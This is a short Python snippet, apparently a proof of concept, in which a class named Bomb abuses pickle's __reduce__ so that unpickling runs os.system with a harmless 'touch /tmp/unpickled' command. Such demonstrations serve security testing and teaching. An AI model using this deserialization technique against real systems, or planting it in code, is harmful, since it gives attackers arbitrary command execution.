import os, pickle

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)

def attack():
    return pickle.loads(pickle.dumps(Bomb()))
